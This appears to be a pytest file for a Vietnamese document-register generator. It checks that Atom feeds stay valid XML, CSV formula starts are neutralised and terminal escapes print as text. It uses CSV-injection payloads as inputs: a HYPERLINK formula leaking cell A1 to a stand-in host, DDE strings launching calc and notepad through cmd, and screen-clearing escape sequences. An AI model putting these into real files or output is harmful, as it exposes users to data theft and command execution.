"""What a pull request writes reaches the feeds, the CSV tables and the terminal harmlessly
(issue 28): the Atom feeds stay valid XML whatever a record or a git commit holds, a CSV cell
never starts a spreadsheet formula, and no command writes a control sequence to the terminal.
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import ROOT, run_register
from generator.core.diagnostics import Diagnostic, for_terminal
from generator.core.read.load import load_register
from generator.publish.export import atom_feed, csv_bytes, inert_cell
from test_security_characters import NEW, line_of, raw, record, small_register, write

ATOM = "{http://www.w3.org/2005/Atom}"


def _git(root: Path, *args: str, author: str = "Biên tập viên") -> None:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": author, "GIT_AUTHOR_EMAIL": "bien-tap@example.org",
           "GIT_AUTHOR_DATE": "2023-02-02T10:00:00+07:00", "GIT_COMMITTER_NAME": "CI",
           "GIT_COMMITTER_EMAIL": "ci@example.org", "GIT_COMMITTER_DATE": "2023-02-02T10:00:00+07:00"}
    subprocess.run(["git", "-c", "commit.gpgsign=false", "-c", "init.defaultBranch=main", *args],
                   cwd=root, env=env, check=True, capture_output=True)


# --- Atom feeds -----------------------------------------------------------------------------

def test_check_refuses_what_xml_cannot_hold_and_no_site_is_built(tmp_path, capsys):
    root = small_register(tmp_path / "r")
    text = record(title=raw("Thông báo về cổng \uffff mới"), task_title=raw("Nhiệm vụ \x0c trang"))
    write(root, NEW, text)
    code, _, err = run_register(capsys, "--root", str(root), "build", "--site-dir", str(tmp_path / "site"))
    assert code == 1 and not (tmp_path / "site").exists()
    assert f"{NEW}:{line_of(text, 'title:')}: this line contains the noncharacter U+FFFF" in err
    assert f"{NEW}:{line_of(text, 'task:')}: this line contains the control character U+000C" in err


def test_the_documents_feed_is_valid_xml_whatever_a_title_holds():
    """The writer holds on its own: text that reached it by another way than a checked record
    loses only the characters XML cannot hold."""
    register, diagnostics = load_register(ROOT / "tests/fixtures/small")
    assert not diagnostics
    doc = register.documents["2021/1-tb-ba"]
    doc.title = "Kết luận \x02về \ud83d việc\ufffe thử\x1f nghiệm\uffff"
    feed = ET.fromstring(atom_feed(register, site_name="Sổ \x0b thử", site_url="https://example.org/so/"))
    titles = [entry.find(f"{ATOM}title").text for entry in feed.iter(f"{ATOM}entry")]
    assert any(title.endswith(": Kết luận về  việc thử nghiệm") for title in titles)
    assert feed.find(f"{ATOM}title").text.startswith("Sổ  thử")


def test_both_feeds_are_valid_xml_when_a_commit_holds_characters_xml_cannot(tmp_path, capsys):
    """git keeps control characters and U+FFFE in an author's name and a subject: the recent
    changes feed and the documents feed of a real build stay valid XML."""
    root = small_register(tmp_path / "r")
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "Thêm sổ")
    write(root, NEW, record())
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "Thêm thông báo \x01 số 7\ufffe \x0b\uffff (#12)",
         author="Người \x0e sửa\uffff")
    site = tmp_path / "site"
    code, _, err = run_register(capsys, "--root", str(root), "build", "--site-dir", str(site))
    assert code == 0, err
    changes = ET.parse(site / "thay-doi-gan-day.xml").getroot()
    entries = list(changes.iter(f"{ATOM}entry"))
    assert len(entries) == 2 and "Thêm thông báo" in entries[0].find(f"{ATOM}title").text
    documents = ET.parse(site / "van-ban-moi.xml").getroot()
    assert any("7/TB-BA" in e.find(f"{ATOM}title").text for e in documents.iter(f"{ATOM}entry"))


# --- CSV ------------------------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://example.net/?d="&A1;"Xem chi tiết")',
    "signer_as": "@SUM(1+1)*cmd|' /C calc'!A0",
    "task_title": "+thông báo|' /C notepad'!B2",
    "due_phrase": "-2+3 trước cuối năm",
}


def test_csv_cells_that_begin_a_formula_are_written_as_text(tmp_path, capsys):
    root = small_register(tmp_path / "r")
    write(root, NEW, record(**{field: raw(value) for field, value in FORMULAS.items()}))
    out = tmp_path / "export"
    code, _, err = run_register(capsys, "--root", str(root), "export", "--format", "csv", "--out", str(out))
    assert code == 0, err
    cells = []
    for table in sorted((out / "csv").glob("*.csv")):
        rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig"), newline="")))
        cells += [cell for row in rows for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in FORMULAS.values():
        assert "'" + value in cells  # shown as typed, after the spreadsheet's text mark
    # what does not begin a formula is untouched: dates, keys, addresses, plain titles
    assert "2023-02-01" in cells and "2023/7-tb-ba" in cells and "Xây dựng hệ thống thử nghiệm" in cells


@pytest.mark.parametrize("cell", ["\tDòng có tab", "\rDòng về đầu", "=1+1", "+1", "-1", "@A1"])
def test_every_cell_start_spreadsheets_read_as_a_formula_is_neutralised(cell):
    raw_csv = csv_bytes(["cột"], [[cell], ["bình thường"]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw_csv, newline="")))
    assert rows == [["cột"], ["'" + cell], ["bình thường"]]
    assert inert_cell("Bộ A = Bộ B") == "Bộ A = Bộ B" and inert_cell("") == ""


# --- terminal -------------------------------------------------------------------------------

ESCAPES = "\x1b]0;đã chiếm\x07\x1b[2J\x9b31m"


def _command(root: Path, *args: str) -> subprocess.CompletedProcess:
    """`register` in its own process: what reaches a real terminal, as bytes."""
    return subprocess.run([sys.executable, "-m", "generator.faces.cli", "--root", str(root), *args],
                          capture_output=True, cwd=ROOT, timeout=300)


def _no_control(output: bytes) -> str:
    text = output.decode("utf-8")
    assert not [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F], text
    return text


def test_a_file_name_with_terminal_escapes_is_printed_as_text(tmp_path):
    root = small_register(tmp_path / "r")
    write(root, f"decisions/2023/7-tb-ba{ESCAPES}.md", record())
    done = _command(root, "check")
    assert done.returncode == 1
    err = _no_control(done.stderr)
    assert "decisions/2023/7-tb-ba\\x1b]0;đã chiếm\\x07\\x1b[2J\\x9b31m.md:2: file name" in err
    done = _command(root, "check", "--format", "github")
    assert done.returncode == 1 and "::error file=decisions/2023/7-tb-ba\\x1b" in _no_control(done.stdout)
    done = _command(root, "build", "--site-dir", str(tmp_path / "site"))
    assert done.returncode == 1 and "\\x1b[2J" in _no_control(done.stderr)


def test_values_with_terminal_escapes_are_printed_as_text(tmp_path):
    root = small_register(tmp_path / "r")
    done = _command(root, "new", "--number", "8/TB-BA", "--type", "thong-bao", "--issuer", f"bo-a{ESCAPES}",
                    "--date", "2023-03-01", "--title", f"Tiêu đề {ESCAPES}")
    assert done.returncode == 1
    err = _no_control(done.stderr)
    assert "U+001B" in err and "bo-a\\x1b]0;" in err
    notice = tmp_path / f"thong-bao{ESCAPES}.txt"
    notice.write_text("lorem ipsum", encoding="utf-8")
    done = _command(root, "import", str(notice))
    assert done.returncode == 1 and "thong-bao\\x1b]0;" in _no_control(done.stderr)
    done = _command(root, "check", "--format", ESCAPES)  # argparse repeats what it refuses
    assert done.returncode == 2 and "\\x1b[2J" in _no_control(done.stderr)


def test_for_terminal_shows_every_character_a_terminal_acts_on():
    assert for_terminal("a\x1b[31mb\x9bc\rd\u202ee\u2066f\ud800g\nh\ti") == \
        "a\\x1b[31mb\\x9bc\\x0dd\\u202ee\\u2066f\\ud800g\\x0ah\\x09i"
    assert for_terminal("dòng một\ndòng\thai\x1b", keep_lines=True) == "dòng một\ndòng\thai\\x1b"
    shown = str(Diagnostic(f"decisions/2023/x{ESCAPES}\n.md", 3, "tên\x1b[8m ẩn"))
    shown.encode("utf-8")
    assert shown == "decisions/2023/x\\x1b]0;đã chiếm\\x07\\x1b[2J\\x9b31m\\x0a.md:3: tên\\x1b[8m ẩn"
